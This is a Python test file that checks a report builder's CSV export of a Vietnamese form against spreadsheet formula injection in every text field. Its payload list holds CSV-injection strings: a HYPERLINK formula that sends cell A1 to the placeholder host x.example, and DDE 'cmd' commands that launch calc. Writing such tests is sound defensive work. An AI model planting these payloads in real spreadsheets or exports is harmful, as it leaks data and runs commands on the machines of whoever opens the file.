"""Spreadsheet safety: no cell of the Phụ lục 2 CSV can start a formula, whatever a guide
(possibly a third party's, through `sotay import`) writes in any field of the form.

The cases are generated from the form's own dataclass fields, so a new field is covered.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import typing

import pytest

from builder.model import FormColumn, ReportForm
from builder.outputs.form import FORMULA_STARTS, as_text, form_csv

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


def _form_with(field: str, payload: str) -> ReportForm:
    base = ReportForm(
        title="Tổng hợp",
        attached_to="Kèm theo Hướng dẫn",
        columns=(FormColumn("Đảng viên", ("Tổng số", "Tỷ lệ %")), FormColumn("Ghi chú")),
        rows=("Chi bộ 1",),
        incomplete=True,
        incomplete_note="thiếu cột",
    )
    hints = typing.get_type_hints(ReportForm)
    if field.startswith("columns."):
        column_field = field.split(".", 1)[1]
        column = (
            FormColumn("Nhóm", (payload,)) if column_field == "children" else FormColumn(payload)
        )
        return dataclasses.replace(base, columns=(column, *base.columns))
    value: object = (payload,) if "tuple" in str(hints[field]) else payload
    return dataclasses.replace(base, **{field: value})


TEXT_FIELDS = [
    f.name
    for f in dataclasses.fields(ReportForm)
    if "str" in str(typing.get_type_hints(ReportForm)[f.name]) and f.name not in ("columns",)
] + [f"columns.{f.name}" for f in dataclasses.fields(FormColumn)]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_no_cell_starts_a_formula(field: str, payload: str) -> None:
    text = form_csv(_form_with(field, payload)).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    # The payload is kept, as text, wherever the field is shown (attached_to is not).
    assert field == "attached_to" or any(payload in c for c in cells), cells


def test_ordinary_text_is_left_as_written() -> None:
    assert as_text("Tổng số") == "Tổng số"
    assert as_text("10.000") == "10.000"
    assert as_text("=1+1") == "'=1+1"
